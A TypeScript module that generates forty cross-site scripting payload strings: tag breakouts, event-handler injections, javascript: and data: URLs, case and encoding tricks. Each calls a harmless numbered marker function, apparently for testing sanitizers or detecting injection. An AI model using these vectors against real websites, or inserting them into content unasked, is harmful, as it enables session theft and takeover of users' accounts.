/** Forty texts that run `__x(n)` where a page takes them for markup or for an address. */

const END = '</script>';

const MAKERS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}${END}`,
  (run) => `"><script>${run}${END}`,
  (run) => `'><script>${run}${END}`,
  (run) => `</title><script>${run}${END}`,
  (run) => `</textarea><script>${run}${END}`,
  (run) => `</style><script>${run}${END}`,
  (run) => `${END}<script>${run}${END}`,
  (run) => `--><script>${run}${END}`,
  (run) => `]]><script>${run}${END}`,
  (run) => `</desc></title></svg><script>${run}${END}`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `"><img src=x onerror=${run}>`,
  (run) => `'><img src=x onerror=${run}>`,
  (run) => `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  (run) => `<img src=x:x onerror =${run} x>`,
  (run) => `<img/src=x/onerror=${run}>`,
  (run) => `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  (run) => `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}${END}</svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `</svg><svg/onload=${run}>`,
  (run) => `<body onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}><summary>x</summary></details>`,
  (run) => `<video><source onerror=${run}></video>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
  (run) => `<iframe srcdoc="<script>parent.${run}${END}"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<object data="x" onerror=${run}></object>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<link rel=stylesheet href=/nowhere.css onerror=${run}>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<math><mtext><img src=x onerror=${run}></mtext></math>`,
  (run) => `<a href="javascript:${run}">here</a>`,
  (run) => `<form action="javascript:${run}"><button>go</button></form>`,
  (run) => `javascript:${run}`,
  (run) => ` JaVa\tScRiPt:${run}//https://example.org/`,
  (run) => `data:text/html,<script>${run}${END}`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;&#60;img src=x onerror=${run}&#62;`,
];

/** Each calls `__x` with its own number from 0. */
export const PAYLOADS: readonly string[] = MAKERS.map((make, n) => make(`__x(${n})`));
